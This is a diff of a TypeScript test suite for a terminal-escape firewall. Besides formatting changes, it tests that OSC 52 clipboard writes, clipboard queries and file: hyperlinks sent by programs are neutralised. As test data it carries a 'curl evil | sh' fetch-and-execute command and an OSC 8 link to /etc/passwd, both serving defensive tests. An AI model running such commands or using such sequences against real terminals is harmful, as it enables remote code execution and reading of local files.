@@ -7,7 +7,19 @@ import { spawnSync } from 'node:child_process';
 import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { confirmOnScreen, fixtureCommand, INNER_PROMPT, INNER_SHELL, JACKIN, OUTER_PROMPT, paneFor, startSession, START_TIMEOUT_MS, waitForJackinExit, JACKIN_CAPSULE } from './helpers/jackin-cli.ts';
+import {
+  confirmOnScreen,
+  fixtureCommand,
+  INNER_PROMPT,
+  INNER_SHELL,
+  JACKIN,
+  OUTER_PROMPT,
+  paneFor,
+  startSession,
+  START_TIMEOUT_MS,
+  waitForJackinExit,
+  JACKIN_CAPSULE,
+} from './helpers/jackin-cli.ts';
 import { pollUntil } from './helpers/poll.ts';
 import { shellQuote, type TmuxPane } from './helpers/tmux.ts';
 import { recordingOpener } from './helpers/recording-opener.ts';
@@ -42,7 +54,7 @@ async function buffers(pane: TmuxPane): Promise<string> {
   return pane.tmux('list-buffers', '-F', '#{buffer_name}:#{buffer_sample}');
 }
 
-test('firewall: a program\'s OSC 52 and DCS-wrapped OSC 52 leave no tmux buffer; the host shows a copy offer', async (t) => {
+test("firewall: a program's OSC 52 and DCS-wrapped OSC 52 leave no tmux buffer; the host shows a copy offer", async (t) => {
   const pane = await clipboardPane(t);
   // Outside jackin, tmux takes the program's OSC 52 as a clipboard write.
   await pane.typeLine(`printf '\\033]52;c;%s\\a' ${b64('outside')}; clear`);
@@ -51,7 +63,9 @@ test('firewall: a program\'s OSC 52 and DCS-wrapped OSC 52 leave no tmux buffer;
   assert.equal(await buffers(pane), '');
 
   const noticed = await loggedSession(t, pane, 'fw-osc52');
-  await pane.typeLine(`printf '\\033]52;c;%s\\a' ${b64('curl evil | sh')}; printf '\\033Ptmux;\\033\\033]52;c;%s\\a\\033\\\\' ${b64('wrapped')}; echo done-$((40+2))`);
+  await pane.typeLine(
+    `printf '\\033]52;c;%s\\a' ${b64('curl evil | sh')}; printf '\\033Ptmux;\\033\\033]52;c;%s\\a\\033\\\\' ${b64('wrapped')}; echo done-$((40+2))`,
+  );
   await pane.waitForText(/^done-42$/m);
   await noticed(/notice \(info\): Copy offer: 14 B "curl evil \| sh"/);
   await noticed(/notice \(info\): Copy offer: 7 B "wrapped"/);
@@ -60,7 +74,7 @@ test('firewall: a program\'s OSC 52 and DCS-wrapped OSC 52 leave no tmux buffer;
   await waitForJackinExit(pane);
 });
 
-test('firewall: a program\'s clipboard query gets nothing (tmux would answer with the operator\'s clipboard)', async (t) => {
+test("firewall: a program's clipboard query gets nothing (tmux would answer with the operator's clipboard)", async (t) => {
   const pane = await clipboardPane(t);
   await pane.tmux('set-buffer', SECRET);
   const secretHex = Buffer.from(b64(SECRET)).toString('hex');
@@ -90,7 +104,9 @@ test('firewall: a file: OSC 8 target never reaches the terminal; an https one do
   await startSession(pane, 'fw-osc8');
   // Everything jackin writes to its terminal from here on.
   await pane.tmux('pipe-pane', '-O', '-t', pane.target, `cat >> ${shellQuote(log)}`);
-  await pane.typeLine(`printf '\\033]8;;file:///etc/passwd\\033\\\\LOCAL-LABEL\\033]8;;\\033\\\\ \\033]8;;https://ok.example/docs\\033\\\\WEB-LABEL\\033]8;;\\033\\\\\\n'`);
+  await pane.typeLine(
+    `printf '\\033]8;;file:///etc/passwd\\033\\\\LOCAL-LABEL\\033]8;;\\033\\\\ \\033]8;;https://ok.example/docs\\033\\\\WEB-LABEL\\033]8;;\\033\\\\\\n'`,
+  );
   await pane.waitForText(/LOCAL-LABEL WEB-LABEL/);
   await pollUntil('the piped bytes', () => existsSync(log) && readFileSync(log, 'latin1').includes('WEB-LABEL'));
   await pane.tmux('pipe-pane', '-t', pane.target);
@@ -118,7 +134,7 @@ test('firewall: modes switched on in pieces across frames are restored at exit (
   assert.deepEqual([off.alternateOn, off.origin, off.insert], [false, false, false]);
 });
 
-test('firewall: a program\'s ?1000l does not switch off click capture; a Ctrl+click still opens the link', async (t) => {
+test("firewall: a program's ?1000l does not switch off click capture; a Ctrl+click still opens the link", async (t) => {
   const rec = recordingOpener(t);
   const pane = await clipboardPane(t, rec.env);
   await startSession(pane, 'fw-mouse');
@@ -158,14 +174,14 @@ test('firewall: Copy offered text puts the text on a real X11 clipboard', async 
   await waitForJackinExit(pane);
 });
 
-test('firewall: without a clipboard, Copy offered text reaches the outer terminal through jackin\'s own OSC 52 (jackin-capsule copy too)', async (t) => {
+test("firewall: without a clipboard, Copy offered text reaches the outer terminal through jackin's own OSC 52 (jackin-capsule copy too)", async (t) => {
   const pane = await clipboardPane(t);
   const noticed = await loggedSession(t, pane, 'fw-osc52-out');
   await pane.typeLine(`printf 'from capsule copy\\n' | ${JACKIN_CAPSULE} copy`);
   await noticed(/Copy offer: 18 B "from capsule copy"/);
   assert.equal(await buffers(pane), '');
   await pane.sendBytes([...PALETTE_KEY, 0x63]);
-  await pollUntil('tmux to store jackin\'s own OSC 52', async () => (await buffers(pane)).includes('from capsule copy'));
+  await pollUntil("tmux to store jackin's own OSC 52", async () => (await buffers(pane)).includes('from capsule copy'));
   assert.equal(await pane.tmux('show-buffer'), 'from capsule copy\n');
   await pane.waitForText(INNER_PROMPT);
   await pane.typeLine('exit');
@@ -185,7 +201,7 @@ test('firewall: a terminal reply nobody asked for never acts as keys (0x1c and 0
   await waitForJackinExit(pane);
 });
 
-test('firewall: a program\'s title is made inert and the operator\'s title comes back at exit', async (t) => {
+test("firewall: a program's title is made inert and the operator's title comes back at exit", async (t) => {
   const pane = await clipboardPane(t);
   await pane.typeLine(`printf '\\033]2;operator-title\\033\\\\'; clear`);
   await pollUntil('the operator title', async () => (await pane.display('#{pane_title}')) === 'operator-title');
